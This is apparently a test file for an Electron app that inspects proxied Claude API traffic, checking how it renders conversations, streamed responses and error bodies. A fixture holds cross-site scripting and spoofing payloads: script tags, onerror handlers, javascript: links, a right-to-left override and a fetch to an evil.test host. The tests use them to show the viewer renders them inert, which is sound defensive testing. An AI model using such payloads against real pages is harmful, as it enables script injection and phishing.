import { readFile } from 'node:fs/promises';
import { gzipSync } from 'node:zlib';
import { beforeAll, describe, expect, test } from 'vitest';
import { claudeRequest, sessionOfTests } from '../test-support/claude-request.ts';
import { messageEvents } from '../test-support/message-stream.ts';
import { proxiedRequest } from '../test-support/proxied-request.ts';
import { PausedStream } from '../test-support/scripted-upstream.ts';
import { expectNoViolationsInThemes } from './axe.ts';
import { oneApp } from './one-app.ts';
import { OpenRequest } from './pages/open-request.ts';

const running = oneApp();
const pixel = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
const hostile = [
  '# Plan <script>window.hit = 1</script>',
  '<img src="x" onerror="window.hit = 2"> and <a href="https://evil.test/tag">a tag</a>',
  '[press me](javascript:window.hit=3) or [read this](https://evil.test/page) ![pixel](https://evil.test/pixel.png)',
  'pay \u202Emoc.elpmaxe\u202C now',
  '```js\nfetch("https://evil.test/code")\n```',
].join('\n\n');

/** Every kind of block there is. */
function everyKind(): string {
  const request: { messages: unknown[] } & Record<string, unknown> = JSON.parse(claudeRequest('Draw me a plan.').body);
  request.messages.push(
    {
      role: 'assistant',
      content: [
        { type: 'thinking', thinking: 'A plan, then.', signature: 'c2ln' },
        { type: 'redacted_thinking', data: 'ZGF0YQ==' },
        { type: 'text', text: hostile },
        { type: 'tool_use', id: 'toolu_edit', name: 'Edit', input: { file_path: '/home/someone/depot/plan.md', old_string: 'port 7070', new_string: 'port 8080' } },
        { type: 'tool_use', id: 'toolu_bash', name: 'Bash', input: { command: 'ls depot' } },
      ],
    },
    { role: 'user', content: [{ type: 'tool_result', tool_use_id: 'toolu_bash', content: 'No such folder', is_error: true }] },
    { role: 'user', content: [{ type: 'tool_result', tool_use_id: 'toolu_edit', content: 'The file was changed.' }, { type: 'tool_result', tool_use_id: 'toolu_nobody', content: 'Nobody asked.' }] },
    {
      role: 'user',
      content: [
        { type: 'image', source: { type: 'base64', media_type: 'image/png', data: pixel } },
        { type: 'document', title: 'Notes', source: { type: 'base64', media_type: 'application/pdf', data: 'JVBERi0=' } },
        { type: 'text', text: 'And this?' },
      ],
    },
  );
  return JSON.stringify(request);
}

let sentRequests = 0;

async function send(body: string): Promise<Awaited<ReturnType<typeof proxiedRequest>>> {
  sentRequests += 1;
  const { proxy, caFile } = await running.app.window.status();
  return proxiedRequest({ proxyUrl: proxy.url, ca: await readFile(caFile, 'utf8'), path: '/v1/messages?beta=true', headers: claudeRequest().headers, body });
}

/** The id of the request that came last, once it is over, or as soon as it is there. */
async function lastId(state: 'complete' | 'open' = 'complete'): Promise<string> {
  for (;;) {
    const rows = await running.app.window.rows();
    const last = rows.at(-1);
    if (rows.length === sentRequests && last?.state === state) return last.id;
    await running.app.window.page.waitForTimeout(20);
  }
}

async function open(id: string, tab: 'conversation' | 'response'): Promise<OpenRequest> {
  await running.app.window.page.evaluate((hash) => void (location.hash = hash), `#/traffic?exchange=${id}&tab=${tab}`);
  return new OpenRequest(running.app.window.page);
}

describe('a conversation with every kind of block', () => {
  const fetched: string[] = [];
  let opened: OpenRequest;

  beforeAll(async () => {
    const { page } = running.app.window;
    page.on('request', (request) => fetched.push(request.url()));
    await running.upstream.script({ kind: 'stream', message: { content: [{ type: 'text', text: 'That is a **plan**.' }] } });
    for await (const _ of await send(everyKind()));
    opened = await open(await lastId(), 'conversation');
    await opened.conversation().waitFor();
  });

  test('begins at its end, with the answer', async () => {
    await opened.message('Answer to this request').getByText('That is a plan.').waitFor();
    await expect.poll(() => opened.conversation().evaluate((feed) => Math.round(feed.scrollHeight - feed.scrollTop - feed.clientHeight))).toBeLessThan(4);
  });

  test('shows results with their calls, marks errors, and leaves a result that nobody asked for where it is', async () => {
    const asked = opened.message('Assistant, message 4');
    await opened.page.keyboard.press('Shift+N');
    await asked.scrollIntoViewIfNeeded();
    await opened.unfold('Bash');
    await asked.getByText('Result: error').waitFor();
    await asked.getByText('No such folder').waitFor();
    await opened.unfold('Edit');
    await asked.getByText('port 8080').waitFor();
    await asked.getByText('The file was changed.').waitFor();
    await opened.message('User, message 6').getByText('Result without a call').waitFor();
    expect(await opened.message('User, message 5').count()).toBe(0);
  });

  test('tells what the harness added from the words of the user', async () => {
    await opened.page.keyboard.press('Control+Home');
    const first = opened.message('User, message 1');
    await first.getByText('Draw me a plan.').waitFor();
    expect(await first.getByText('Speak plainly.').count()).toBe(1);
    // Who put what in is known once the request is analysed.
    expect(await first.getByRole('button').filter({ hasText: 'CLAUDE.md' }).getAttribute('aria-expanded')).toBe('false');
  });

  test('shows thinking, an image and a document', async () => {
    const asked = opened.message('Assistant, message 4');
    await asked.scrollIntoViewIfNeeded();
    await opened.unfold('A plan, then.');
    await asked.getByText('Thinking, redacted').waitFor();
    await opened.page.keyboard.press('Control+End');
    const last = opened.message('User, message 7');
    await last.getByText('Document, application/pdf').waitFor();
    await last.getByRole('button', { name: /^Image, image\/png, 1 × 1/ }).click();
    const large = opened.page.getByRole('dialog', { name: /^Image/ });
    await expect.poll(() => large.getByRole('img').evaluate((image) => (image instanceof HTMLImageElement ? image.naturalWidth : 0))).toBe(1);
    await opened.page.keyboard.press('Escape');
    await large.waitFor({ state: 'detached' });
  });

  test('is text and nothing else: nothing runs, loads or leads away, and what cannot be seen is marked', async () => {
    const asked = opened.message('Assistant, message 4');
    await opened.page.keyboard.press('Control+Home');
    await opened.page.keyboard.press('n');
    await asked.scrollIntoViewIfNeeded();
    await asked.getByText('<script>window.hit = 1</script>').waitFor();
    await asked.getByText('javascript:window.hit=3').waitFor();
    await asked.getByText('Image, not loaded').waitFor();
    expect(await asked.locator('a, img, script, [href], [onerror]').count()).toBe(0);
    expect(await asked.locator('.hidden-run').evaluateAll((marks) => marks.map((mark) => mark.getAttribute('data-name')))).toEqual(['U+202E', 'U+202C']);
    await asked.getByText('read this').click();
    await asked.getByRole('button', { name: 'Copy the address https://evil.test/page' }).click();
    await expect.poll(() => running.app.electron.evaluate(({ clipboard }) => clipboard.readText())).toBe('https://evil.test/page');
    expect(await opened.page.evaluate(() => Reflect.get(window, 'hit'))).toBe(undefined);
    expect(fetched.filter((url) => !/^(?:file|data|blob):/.test(url))).toEqual([]);
    expect(opened.page.url()).toMatch(/^file:.*#\/traffic/);
    expect(running.app.electron.windows()).toHaveLength(1);
    await opened.show('Plain');
    await asked.getByText('[press me](javascript:window.hit=3)').waitFor();
    await opened.show('Markdown');
  });

  test('has no fault that axe knows, in either theme', async () => {
    await expectNoViolationsInThemes(opened.page, 'the conversation', { within: '.detail' });
  });

  test('shows and marks what is looked for', async () => {
    await opened.page.evaluate(() => void (location.hash += '&find=Speak%20plainly'));
    await opened.message('User, message 1').getByText('Żółw').waitFor();
    await expect.poll(() => opened.page.evaluate(() => CSS.highlights.get('found')?.size ?? 0)).toBe(1);
  });
});

describe('a response that paused', () => {
  const sent = messageEvents({ content: [{ type: 'text', text: 'It took a while to say this.' }] });
  const stream = new PausedStream();
  /** When it was written at the earliest and had come at the latest, of the two halves. */
  const halves: { fromMs: number; untilMs: number }[] = [];
  let opened: OpenRequest;

  test('is stored with its pause', async () => {
    await running.upstream.script({ kind: 'paused-stream', stream });
    const response = await send(claudeRequest().body);
    const chunks = response.iterator();
    for (const half of [sent.slice(0, 5), sent.slice(5)]) {
      const fromMs = performance.now();
      stream.write(half.join(''));
      await chunks.next();
      halves.push({ fromMs, untilMs: performance.now() });
      // What takes its time between the halves is the window.
      await expect.poll(async () => (await running.app.window.rows()).at(-1)?.responseBytes).toBeGreaterThan(0);
      await running.app.window.row('200 …').waitFor();
    }
    stream.end();
    while (!(await chunks.next()).done);
    opened = await open(await lastId(), 'response');
    await opened.page.getByText('Stopped: end_turn').waitFor();
    await opened.show('Events');
    await expect.poll(() => opened.events().count()).toBe(sent.length);

    const id = await lastId();
    const view = await opened.page.evaluate((of) => window.whence.call('readStream', { id: of }), id);
    expect(view?.events.map(({ type, data }) => `event: ${type}\ndata: ${data}\n\n`)).toEqual(sent);
    const pauseMs = ((view?.events[5]?.afterUs ?? 0) - (view?.events[4]?.afterUs ?? 0)) / 1000;
    const [first = { fromMs: 0, untilMs: 0 }, second = first] = halves;
    expect(pauseMs).toBeGreaterThanOrEqual(second.fromMs - first.untilMs - 2);
    expect(pauseMs).toBeLessThanOrEqual(second.untilMs - first.fromMs + 2);
  });

  test('is gone through event by event, by key and by the scrubber', async () => {
    await opened.events().nth(4).click();
    await opened.eventAsSent().getByText('"text_delta"').waitFor();
    await opened.show('Message', /moment/);
    const then = (): Promise<string> => opened.messageThen().innerText();
    await expect.poll(then).toContain('It took a whil');
    expect(await then()).not.toContain('say this');
    // In a group of choices, arrow keys choose.
    await opened.messageThen().click();
    await opened.page.keyboard.press('ArrowRight');
    await expect.poll(then).toContain('a while to sa');
    await opened.page.keyboard.press('ArrowLeft');
    await expect.poll(then).not.toContain('while');
    await opened.moment().fill('0');
    await expect.poll(then).toContain('Nothing has come yet.');
  });

  test('has no fault that axe knows, in either theme', async () => {
    await expectNoViolationsInThemes(opened.page, 'the events of a response', { within: '.detail' });
  });

  test('is replayed to its end', async () => {
    await opened.page.getByRole('button', { name: 'Replay as it came' }).focus();
    await opened.page.keyboard.press('Space');
    await expect.poll(() => opened.messageThen().innerText()).toContain('It took a while to say this.');
    await opened.page.getByRole('button', { name: 'Replay as it came' }).waitFor();
  });
});

describe('a response that is no message', () => {
  test.each([
    { status: 529, contentType: 'application/json', body: '{"type":"error","error":{"type":"overloaded_error","message":"Try again later."}}', says: 'overloaded_error: Try again later.' },
    { status: 502, contentType: 'text/html', body: '<h1>Bad gateway</h1><script>window.hit = 4</script>', says: '<h1>Bad gateway</h1>' },
    { status: 200, contentType: 'application/octet-stream', body: Buffer.from([0, 255, 254, 1]), says: 'Not text' },
    { status: 200, contentType: 'text/event-stream', body: '', says: 'The response has no body' },
    { status: 200, contentType: 'application/json', contentEncoding: 'gzip', body: gzipSync('{"type":"message","content":[{"type":"text","text":"Whole at once."}],"stop_reason":"end_turn"}'), says: 'Whole at once.' },
  ])('reads well: $status $contentType', async ({ says, ...answer }) => {
    await running.upstream.script({ kind: 'body', ...answer });
    for await (const _ of await send(claudeRequest('Again.', sessionOfTests).body));
    const opened = await open(await lastId(), 'response');
    await opened.page.getByText(says).first().waitFor();
    expect(await opened.page.evaluate(() => Reflect.get(window, 'hit'))).toBe(undefined);
  });
});

describe('what is not whole', () => {
  test('a prompt that ends in the middle says so', async () => {
    for await (const _ of await send(claudeRequest().body.slice(0, -20)));
    const opened = await open(await lastId(), 'conversation');
    await expect.poll(() => opened.page.getByText('The body ends in the middle').count()).toBe(1);
  });

  test('an answer that breaks off says so once, with an estimate of what came', async () => {
    const stream = new PausedStream();
    await running.upstream.script({ kind: 'paused-stream', stream });
    const response = await send(claudeRequest('Tell it slowly.').body);
    const chunks = response.iterator();
    const opened = await open(await lastId('open'), 'response');
    await opened.page.getByText('Nothing of the body has come yet').waitFor();
    stream.write(messageEvents({ content: [{ type: 'text', text: 'It took a while to say this.' }] }).slice(0, 5).join(''));
    await chunks.next();
    await opened.page.getByText('Still streaming: this is what has come so far').waitFor();
    stream.abort();
    await chunks.next().catch(() => undefined);
    await opened.page.getByText('Cut off: this is what came before it ended').waitFor();
    const request = opened.page.getByRole('region', { name: 'Request' });
    await expect.poll(() => request.locator('.notice').count()).toBe(1);
    await expect.poll(() => request.locator('.summary').innerText()).toMatch(/~\d+ output/);
  });

  test('a request that is gone can be closed with the mouse', async () => {
    const opened = await open('nowhere', 'response');
    await opened.page.getByText('Could not read this request').waitFor();
    await opened.page.getByRole('button', { name: 'Close the request' }).click();
    await expect.poll(() => opened.page.getByText('Could not read this request').count()).toBe(0);
  });
});
